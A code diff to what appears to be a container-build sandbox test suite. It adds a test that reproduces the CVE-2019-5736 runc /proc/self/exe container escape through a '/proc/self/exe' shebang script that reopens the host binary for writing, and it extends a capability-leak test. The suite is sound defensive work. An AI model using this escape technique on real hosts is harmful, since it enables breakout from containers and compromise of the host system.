@@ -637,6 +637,80 @@ def proc_self_exe(cell: Cell) -> Outcome:
     return outcome
 
 
+EVIL_PY = """\
+#!/proc/self/exe -S
+import os
+fd = os.open("/proc/self/exe", os.O_PATH)
+os.set_inheritable(fd, True)
+if os.fork() == 0:
+    os.execv("/bin/probe", ["probe", "reopen", str(fd)])
+os.execv("/bin/sleep", ["sleep", "3"])
+"""
+
+
+def _host_binaries(cell: Cell) -> list[str]:
+    """The host binaries a step's first exec can resolve /proc/self/exe to: the runtime,
+    or for the native helper the interpreter ocibuild runs in."""
+    if cell.mode.runtime:
+        found = shutil.which(cell.mode.runtime)
+        return [os.path.realpath(found)] if found else []
+    if cell.cli.user is None:
+        return [os.path.realpath(sys.executable)]
+    from hardening.modes import python_for_others
+
+    return [os.path.realpath(python_for_others()[0])]
+
+
+def _sysroot(ctx: Path, binaries: list[str]) -> None:
+    """What the attacker ships so a host binary can start in the image: its shared
+    libraries at their host paths, and the `encodings` package for a Python."""
+    root = ctx / "sysroot"
+    root.mkdir(exist_ok=True)
+    for binary in binaries:
+        out = subprocess.run(["ldd", binary], capture_output=True, text=True).stdout
+        for ln in out.splitlines():
+            parts = ln.split()
+            lib = parts[2] if "=>" in parts and len(parts) > 2 else parts[0]
+            if lib.startswith("/") and os.path.exists(lib):
+                dest = root / lib.lstrip("/")
+                dest.parent.mkdir(parents=True, exist_ok=True)
+                shutil.copy(lib, dest)
+    home = ctx / "pyhome" / "lib" / f"python{sys.version_info.major}.{sys.version_info.minor}"
+    home.mkdir(parents=True, exist_ok=True)
+    stdlib = os.path.dirname(os.__file__)
+    shutil.copytree(os.path.join(stdlib, "encodings"), home / "encodings", dirs_exist_ok=True)
+
+
+@attack("runtime-exe-overwrite")
+def runtime_exe_overwrite(cell: Cell) -> Outcome:
+    """CVE-2019-5736 in full: a step's command is a script whose interpreter is
+    /proc/self/exe, so the first exec runs the host binary that started the step (the
+    runtime; for native-chroot the Python interpreter ocibuild runs in). As a Python it
+    runs the script: keep an O_PATH fd on the binary, fork a child that execs the probe,
+    exec away, and the probe reopens the binary for writing (never writes)."""
+    ctx = cell.context()
+    _sysroot(ctx, _host_binaries(cell))
+    (ctx / "evil").write_text(EVIL_PY)
+    (ctx / "evil").chmod(0o755)
+    run = cell.build(
+        f"FROM {BASE_TAG}\nCOPY sysroot/ /\nCOPY pyhome /pyhome\nCOPY evil /bin/evil\n"
+        'ENV PYTHONHOME=/pyhome\nRUN ["/bin/evil"]\n',
+        ctx=ctx,
+    )
+    writable = lines_with(run, "EXE-WRITABLE")
+    if writable:
+        cell.escapes.append(
+            "host binary opened for writing from the step: " + writable[0].split(" ", 1)[1]
+        )
+    outcome = judge(cell, run, None, "; ".join(lines_with(run, "exe-reopen")))
+    if outcome.kind == "refused" and "did not complete successfully" in outcome.detail:
+        # the runtime's own binary ran inside (runc: a sealed copy) and rejected the
+        # script's arguments: the step failed, the host binary was never reachable
+        code = outcome.detail.rsplit("exit code:", 1)[-1].strip(" )")
+        return Outcome("contained", f"{cell.mode.runtime} ran as the step, exit {code}")
+    return outcome
+
+
 @attack("leaked-fds")
 def leaked_fds(cell: Cell) -> Outcome:
     """CVE-2024-21626: inherited fds pointing outside the rootfs (walk '..' from each
@@ -675,28 +749,29 @@ def workdir_proc_fd(cell: Cell) -> Outcome:
 
 @attack("capabilities")
 def capabilities(cell: Cell) -> Outcome:
-    """CVE-2022-29162: inheritable and ambient capabilities are empty for root steps, and
-    a USER 1000 step has no capability at all."""
+    """CVE-2022-29162: inheritable and ambient capabilities are empty for root steps; a
+    USER 1000 step has none at all, even running a binary with inheritable file
+    capabilities (fI = all, effective)."""
     run = cell.build(
         f"FROM {BASE_TAG}\nRUN grep Cap /proc/self/status | sed s/^/root-/\n"
+        "RUN mkdir /opt && cp /bin/busybox /opt/grep && /bin/probe setfcap /opt/grep\n"
         "USER 1000\nRUN grep Cap /proc/self/status | sed s/^/user-/\n"
+        "RUN /opt/grep Cap /proc/self/status | sed s/^/fcap-/\n"
     )
     bad = []
     for ln in run.output.splitlines():
         ln = ln.strip()
-        if not ln.startswith(("root-Cap", "user-Cap")) or ":" not in ln:
+        if not ln.startswith(("root-Cap", "user-Cap", "fcap-Cap")) or ":" not in ln:
             continue
         key, value = ln.split(":", 1)
         value = value.strip()
-        if int(value, 16) == 0:
+        if int(value, 16) == 0 or key.endswith("CapBnd"):
             continue
-        if key.endswith(("CapInh", "CapAmb")) or (
-            key.startswith("user-") and key.endswith(("CapPrm", "CapEff"))
-        ):
+        if key.endswith(("CapInh", "CapAmb")) or not key.startswith("root-"):
             bad.append(f"{key}={value}")
     if bad:
         cell.escapes.append("capabilities leak: " + ", ".join(bad))
-    return judge(cell, run, None)
+    return judge(cell, run, None, ", ".join(lines_with(run, "setfcap=")))
 
 
 @attack("bind-source-escape")
